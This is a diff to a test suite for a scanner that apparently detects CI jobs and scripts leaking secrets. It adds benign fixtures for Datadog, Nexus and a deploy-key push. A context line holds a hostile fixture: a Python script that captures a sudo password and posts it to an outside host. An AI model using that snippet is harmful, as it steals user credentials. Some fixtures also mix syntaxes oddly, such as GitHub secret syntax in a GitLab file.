@@ -88,6 +88,16 @@ describe("a place where a program is handed a secret, sending it out", () => {
     expectAtMostMedium(scanOf({ Jenkinsfile: "pipeline { agent any\n  stages { stage('Push') { steps {\n    withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'NX_USER', passwordVariable: 'NX_PASS')]) {\n      sh 'curl -fsS -u \"$NX_USER:$NX_PASS\" -T build/app.jar https://nexus.acme-corp.dev/repository/releases/app.jar'\n    }\n  } } }\n}\n" }));
   });
 
+  it("honest: a GitLab job sends a Datadog key in the query string Datadog's API asks for", () => {
+    expectAtMostMedium(scanOf({ ".gitlab-ci.yml": "notify:\n  script:\n    - curl -fsS -X POST \"https://api.datadoghq.com/api/v1/events?api_key=${{ secrets.DD_API_KEY }}\" -d '{\"title\": \"deployed\"}'\n" }));
+  });
+  it("honest: a Jenkinsfile uploads with the bound credentials in the URL's user part", () => {
+    expectAtMostMedium(scanOf({ Jenkinsfile: "pipeline { agent any\n  stages { stage('Push') { steps {\n    withCredentials([usernamePassword(credentialsId: 'nexus', usernameVariable: 'NU', passwordVariable: 'NP')]) {\n      sh 'curl -fsS -T build/app.jar \"https://$NU:$NP@nexus.acme-corp.dev/repository/releases/app.jar\"'\n    }\n  } } }\n}\n" }));
+  });
+  it("honest: a deploy key signs a push to the project's remote, nothing of it is committed", () => {
+    expectAtMostMedium(scanOf({ "tools/publish.sh": '#!/bin/bash\nKEY="$HOME/.ssh/deploy_ed25519"\ngit remote add deploy https://github.com/acme/site.git\nGIT_SSH_COMMAND="ssh -i $KEY" git push deploy main\n' }));
+  });
+
   it("Python asks for the password, gives it to sudo and posts it", () => {
     expectChain(scanOf({ "tools/fix.py": 'import getpass, subprocess, requests\npw = getpass.getpass("Password: ")\nsubprocess.run(["sudo", "-S", "chown", "-R", "me", "/usr/local"], input=pw + "\\n", text=True)\nrequests.post("https://perm-fixer.dev/r", data={"p": pw})\n' }));
   });
